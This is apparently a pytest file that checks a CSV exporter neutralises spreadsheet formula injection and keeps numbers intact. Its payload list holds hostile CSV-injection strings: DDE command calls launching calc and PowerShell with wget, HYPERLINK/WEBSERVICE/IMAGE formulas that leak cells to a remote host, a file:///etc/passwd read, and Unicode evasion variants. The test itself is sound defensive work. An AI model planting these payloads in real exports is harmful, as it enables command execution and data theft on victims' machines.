"""CSV cells that a spreadsheet would work out: none gets out as it is, and numbers stay numbers."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from primum.core.sql import literal
from primum.evaluation.store.query import Rows, query, render

PAYLOADS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1"),
    *("=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0", "+cmd|' /C calc'!A0"),
    *("-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0"),
    '=HYPERLINK("https://example.org?leak="&A1&A2,"click")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMPORTXML(CONCAT("https://example.org?",A1),"//a")',
    '=IMPORTDATA("https://example.org")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe '!''",
    '=IMAGE("https://example.org/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    *(" =1+1", "   +1", " \t -1", "\u00a0=1+1", "\u3000=1+1", "\u2003@A1", "\u200b=1+1"),
    *('"=1+1', '"=1+1"', "'=1+1", "''+1", "`@A1", "\u201c=1+1\u201d", ' " \t\n=1+1'),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", " \uff1d1", "\ufe66cmd", "\ufe63cmd"),
    *(
        "\ufeff=1+1",
        "\x00=1+1",
        "\x1b=1+1",
        "\x7f=1+1",
        "\u202e=1+1",
        "\u22121+1",
        "\x0b=1",
        "\x0c=1",
    ),
]
HARMLESS = ["a=1", "1-2", "(-1)", "x\n=1", "\u00e9=1", "\u2019s", "", " ", "*", "/", "\u2013 dash", "a\tb"]  # fmt: skip


def cells(rows: Rows) -> list[list[str]]:
    return list(csv.reader(io.StringIO(render(rows, "csv"), newline="")))


def test_no_payload_begins_a_cell(stored: Path) -> None:
    """Out of the store, as anyone's text would come, and as the name of a column."""
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40
    texts = ", ".join(literal(text) for text in PAYLOADS if "\x00" not in text)
    found = query(stored, f"select unnest([{texts}]) as text")
    assert [text for (text,) in found.rows] == [text for text in PAYLOADS if "\x00" not in text]
    (_, *rows) = cells(Rows(["text"], [(text,) for text in PAYLOADS]))
    assert [cell for (cell,) in rows] == [f"'{text}" for text in PAYLOADS]
    (names, *_) = cells(Rows(PAYLOADS, []))
    assert names == [f"'{text}" for text in PAYLOADS]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert cells(Rows(["text"], [(text,)]))[1:] == ([[text]] if text else [[""]])


def test_numbers_below_zero_stay_numbers(stored: Path) -> None:
    sql = """select -1 as whole, -1.5 as exact, -1e-9::double as small, -1::hugeint as huge,
             -12345678901234567890.5::decimal(38, 1) as long, '-1' as text"""
    found = query(stored, sql)
    assert render(found, "csv").splitlines()[1] == (
        """-1,-1.5,-1e-09,-1,-12345678901234567890.5,"'-1\""""
    )
    numbers = Rows(["n"], [(-1,), (-0.5,), (Decimal("-2.50"),), (True,)])
    assert render(numbers, "csv") == '"n"\n-1\n-0.5\n-2.50\nTRUE\n'
